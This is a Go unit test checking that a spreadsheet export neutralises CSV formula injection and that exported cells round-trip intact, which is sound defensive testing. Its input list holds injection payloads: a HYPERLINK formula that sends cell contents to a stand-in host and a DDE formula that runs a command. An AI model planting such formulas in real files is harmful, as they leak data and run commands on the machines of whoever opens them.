package sheet

import (
	"reflect"
	"strings"
	"testing"

	"thidua/app"
)

// A CSV cell that starts with = + - @, a tab or a carriage return is a formula to Excel and
// LibreOffice (CSV injection): the export must not hand it over as one, and the app's own import
// must read back exactly what was exported.
func TestWriteTable_CSVNeutralisesFormulas(t *testing.T) {
	danger := []string{`=HYPERLINK("http://x.example/?"&A1,"Bấm")`, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "'=1+1", "'đã có nháy"}
	tab := app.Table{Header: []string{"Tên", "Ghi chú"}, HeaderRow: 1}
	for i, d := range danger {
		tab.Rows = append(tab.Rows, []string{"Dòng", d})
		tab.RowNums = append(tab.RowNums, i+2)
	}
	b := mustWrite(t, "x.csv", tab, nil)
	for _, line := range strings.Split(string(trimBOM(b)), "\r\n")[1:] {
		if line == "" {
			continue
		}
		cell := strings.TrimPrefix(strings.SplitN(line, ",", 2)[1], `"`)
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("a cell starts with a formula character: %q", line)
		}
	}
	back, err := Files{}.ReadTable(strings.NewReader(string(b)), "x.csv")
	if err != nil {
		t.Fatal(err)
	}
	// encoding/csv drops a lone carriage return inside a quoted cell; the import trims it anyway.
	tab.Rows[6][1] = "=1+1"
	if !reflect.DeepEqual(back.Rows, tab.Rows) {
		t.Errorf("round trip changed the cells:\n got %q\nwant %q", back.Rows, tab.Rows)
	}
}
